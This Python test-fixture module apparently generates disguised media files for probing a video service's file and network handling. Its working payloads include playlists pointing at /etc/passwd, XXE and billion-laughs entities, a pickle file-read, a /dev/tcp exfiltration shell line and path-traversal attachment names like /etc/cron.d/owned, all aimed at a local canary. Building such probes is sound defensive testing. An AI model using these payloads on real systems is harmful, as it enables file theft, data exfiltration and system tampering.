"""Files that are no videos but point at one, or at anything: what a reader that follows them would give away."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import av

from canary import Canary
from media_factory import Movie, make

Maker = Callable[[], bytes]


def pointers(canary: Canary, folder: Path) -> Mapping[str, Maker]:
    """By name (its suffix is what it is sent as) what makes them; ``folder`` is for what is made on the way."""
    texts = {**_playlists(canary), **_scripts(canary), **_markup(canary)}
    return {
        **{name: lambda text=text: text.encode() for name, text in texts.items()},
        "bom.m3u8": lambda: b"\xef\xbb\xbf" + texts["file.m3u8"].encode(),
        "utf16.m3u8": lambda: texts["file.m3u8"].encode("utf-16"),
        "late.ts": lambda: b"\x47" + bytes(187) + texts["file.m3u8"].encode(),
        "imf.zip": lambda: _zip({"ASSETMAP.xml": texts["assetmap.xml"].encode(), "film.mp4": b"x"}),
        "alias.mov": lambda: alias_film(folder / "alias.mov", str(canary.film)),
        "alias-text.mov": lambda: alias_film(folder / "alias-text.mov", str(canary.text)),
        "url.mov": lambda: reference_film(folder / "url.mov", b"url ", f"{canary.url}/film.mp4".encode() + b"\0"),
        "url-file.mov": lambda: reference_film(folder / "urlf.mov", b"url ", f"file://{canary.film}".encode() + b"\0"),
        "movie-of-movies.mov": lambda: movie_of_movies(str(canary.film), f"{canary.url}/film.mp4"),
        "attachments.mkv": lambda: _attachments(folder / "attachments.mkv", canary),
        "linked.mkv": lambda: linked_segments(folder / "linked.mkv", str(canary.film)),
    }


def _playlists(canary: Canary) -> dict[str, str]:
    film, text, url = str(canary.film), str(canary.text), canary.url

    def hls(*lines: str) -> str:
        start = "#EXTM3U", "#EXT-X-VERSION:7", "#EXT-X-TARGETDURATION:2", "#EXT-X-MEDIA-SEQUENCE:0"
        return "\n".join((*start, *lines, "#EXT-X-ENDLIST")) + "\n"

    def sdp(port: int) -> str:
        lines = "v=0", "o=- 0 0 IN IP4 127.0.0.1", "s=x", "c=IN IP4 127.0.0.1", "t=0 0", f"m=video {port} RTP/AVP 96"
        return "\r\n".join((*lines, "a=rtpmap:96 H264/90000")) + "\r\n"

    return {
        "file.m3u8": hls("#EXTINF:1,", film),
        "file-url.m3u8": hls("#EXTINF:1,", f"file://{text}"),
        "http.m3u8": hls("#EXTINF:1,", f"{url}/film.ts"),
        "passwd.m3u8": hls("#EXTINF:1,", "/etc/passwd"),
        "subfile.m3u8": hls("#EXTINF:1,", f"subfile,,start,0,end,64,,:{text}"),
        "concat-leak.m3u8": hls("#EXTINF:1,", f"concat:{url}/?|file://{text}"),
        "crypto.m3u8": hls(f'#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"', "#EXTINF:1,", f"crypto+file:{film}"),
        "map.m3u8": hls(f'#EXT-X-MAP:URI="{film}"', "#EXTINF:1,", f"{url}/film.m4s"),
        "variants.m3u8": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n" + f"{url}/inner.m3u8\n",
        "data.m3u8": hls("#EXTINF:1,", "data:application/x-mpegURL;base64,I0VYVE0zVQo="),
        "playlist.mp4": hls("#EXTINF:1,", film),
        "playlist.avi": hls("#EXTINF:1,", f"{url}/GAB2"),
        "playlist.ts": hls("#EXTINF:1,", film),
        "film.ffconcat": f"ffconcat version 1.0\nfile '{film}'\nduration 1\n",
        "options.ffconcat": f"ffconcat version 1.0\nfile '{url}/x'\noption protocol_whitelist file,http,tcp\n",
        "concat.mkv": f"ffconcat version 1.0\nfile 'file:{film}'\n",
        "stream.sdp": sdp(canary.port),
        "stream.mp4": sdp(canary.port),
        "rtsp.mp4": f"RTSPtextRTSP://127.0.0.1:{canary.port}/film\n",
        "film.asx": f'<asx version="3.0"><entry><ref href="{url}/film.wmv"/></entry></asx>',
        "film.ram": f"rtsp://127.0.0.1:{canary.port}/film.rm\nfile://{film}\n",
        "film.pls": f"[playlist]\nFile1={film}\nFile2={url}/x\nNumberOfEntries=2\n",
        "film.mmsh": f"[Reference]\nRef1=http://127.0.0.1:{canary.port}/film\n",
        "address.txt": f"{url}/film.mp4",
        "path.txt": film,
    }


def _scripts(canary: Canary) -> dict[str, str]:
    film, text = str(canary.film), str(canary.text)
    return {
        "film.avs": f'AviSource("{film}")\n',
        "film.vpy": f"open({text!r}).read()\nimport vapoursynth\n",
        "film.idx": f"# VobSub index file, v7 (do not modify this line!)\nid: en, index: 0\n# {film}\n",
        "meta.ffmeta": f";FFMETADATA1\ntitle={film}\n[STREAM]\nurl={film}\n",
        "graph.lavfi": f"movie=filename={film}",
        "pickle.mp4": f"cbuiltins\nopen\n(S'{text}'\ntR.",
        "shell.mp4": f"#!/bin/sh\ncat {text} > /dev/tcp/127.0.0.1/{canary.port}\n",
    }


def _markup(canary: Canary) -> dict[str, str]:
    film, text, url = str(canary.film), str(canary.text), canary.url
    entity = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{text}"><!ENTITY % p SYSTEM "{url}/x.dtd">%p;]>'
    image = f'<image xlink:href="{canary.picture(0)}"/><image xlink:href="{url}/x.png"/>'
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{image}'
    return {
        "film.mpd": _dash(f"file://{film}"),
        "http.mpd": _dash(f"{url}/film.mp4"),
        "entities.mpd": f'<?xml version="1.0"?>{entity}{_dash("&e;")}',
        "picture.svg": f'<?xml version="1.0"?>{svg}</svg>',
        "entities.svg": f'<?xml version="1.0"?>{entity}{svg}<text>&e;</text></svg>',
        "laughs.svg": f'<?xml version="1.0"?><!DOCTYPE x [{_laughs()}]>{svg}<text>&l9;</text></svg>',
        "assetmap.xml": '<AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><Id>urn:uuid:1</Id><AssetList>'
        f"<Asset><Id>urn:uuid:2</Id><ChunkList><Chunk><Path>{film}</Path></Chunk></ChunkList></Asset></AssetList>"
        "</AssetMap>",
        "film.smil": f'<smil><body><video src="{url}/film.mp4"/><video src="{film}"/></body></smil>',
        "page.html": f'<script>fetch("{url}")</script><video src="{url}/film.mp4"></video>',
    }


def _dash(base: str) -> str:
    return (
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT1S" minBufferTime="PT1S"'
        ' profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4">'
        f'<Representation id="1" bandwidth="1" codecs="avc1.42c00d" width="64" height="48"><BaseURL>{base}</BaseURL>'
        '<SegmentList><SegmentURL media=""/></SegmentList></Representation></AdaptationSet></Period></MPD>'
    )


def _laughs() -> str:
    inner = (f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return '<!ENTITY l0 "lol">' + "".join(inner)


def _zip(files: Mapping[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in files.items():
            made.writestr(name, data)
    return held.getvalue()


# Boxes of ISO files


def box(kind: bytes, *parts: bytes) -> bytes:
    """A box of an ISO base media file."""
    payload = b"".join(parts)
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def replaced(data: bytes, path: tuple[bytes, ...], new: bytes) -> bytes:
    """``data`` with the box at ``path`` replaced by ``new``, its parents' sizes put right."""
    found, at = [], 0
    while at + 8 <= len(data):
        size, kind = struct.unpack_from(">I4s", data, at)
        size = size or len(data) - at
        whole = data[at : at + size]
        if kind == path[0]:
            whole = new if len(path) == 1 else box(kind, replaced(whole[8:], path[1:], new))
        found.append(whole)
        at += size
    return b"".join(found)


_DREF = (b"moov", b"trak", b"mdia", b"minf", b"dinf", b"dref")


def reference_film(path: Path, kind: bytes, payload: bytes) -> bytes:
    """A film whose pictures lie elsewhere: where its data reference of ``kind`` says."""
    whole = make(path, Movie(width=64, height=48, frames=25, b_frames=0)).read_bytes()
    entry = box(kind, bytes(4), payload)  # flags 0: not in this file
    return replaced(whole, _DREF, box(b"dref", bytes(4), struct.pack(">I", 1), entry))


def alias_film(path: Path, target: str) -> bytes:
    """The same with an alias record, the one kind of reference that FFmpeg follows (where that is enabled)."""
    volume, name = b"Macintosh HD", Path(target).name.encode()[:63]
    head = struct.pack(">I", 0) + struct.pack(">HH", 0, 2) + bytes(2)
    record = head + bytes([len(volume)]) + volume.ljust(27, b"\0") + bytes(12) + bytes([len(name)])
    record += name.ljust(63, b"\0") + bytes(16) + struct.pack(">HH", 0, 0) + bytes(16)
    full = target.encode()
    for tag, value in ((2, volume + full.replace(b"/", b":")), (18, full)):
        record += struct.pack(">HH", tag, len(value)) + value + bytes(len(value) % 2)
    record += struct.pack(">H", 0xFFFF) + bytes(2)
    return reference_film(path, b"alis", record)


def movie_of_movies(*addresses: str) -> bytes:
    """A QuickTime file with nothing in it but addresses of others."""
    entries = [
        box(b"rmda", box(b"rdrf", bytes(4), b"url ", struct.pack(">I", len(one) + 1), one.encode(), b"\0"))
        for one in addresses
    ]
    return box(b"ftyp", b"qt  ", bytes(4), b"qt  ") + box(b"moov", box(b"rmra", *entries))


def _attachments(path: Path, canary: Canary) -> bytes:
    with av.open(str(path), "w") as container:
        for number, name in enumerate(("../../../../tmp/owned", str(canary.film), "/etc/cron.d/owned", "font.ttf")):
            container.add_attachment(name, "application/x-truetype-font", f"{number} {canary.url}".encode())
        stream = container.add_stream("libx264", rate=25)
        stream.width, stream.height, stream.pix_fmt = 64, 48, "yuv420p"
        for index in range(10):
            frame = av.VideoFrame(64, 48, "yuv420p")
            frame.pts = index
            container.mux(stream.encode(frame))
        container.mux(stream.encode(None))
    return path.read_bytes()


def linked_segments(path: Path, target: str) -> bytes:
    """A Matroska file that says that it goes on in another one."""
    make(path, Movie(width=64, height=48, frames=25, b_frames=0))
    data = bytearray(path.read_bytes())
    name = target.encode()
    element = b"\x3e\x83\xbb" + bytes([0x40, len(name)]) + name  # NextFilename
    at = data.index(b"\x15\x49\xa9\x66")  # Info
    first = data[at + 4]
    width = 8 - first.bit_length() + 1
    size = int.from_bytes(data[at + 4 : at + 4 + width], "big") - (1 << (7 * width))
    changed = (1 << 56) | (size + len(element))
    return bytes(data[: at + 4]) + changed.to_bytes(8, "big") + element + bytes(data[at + 4 + width :])
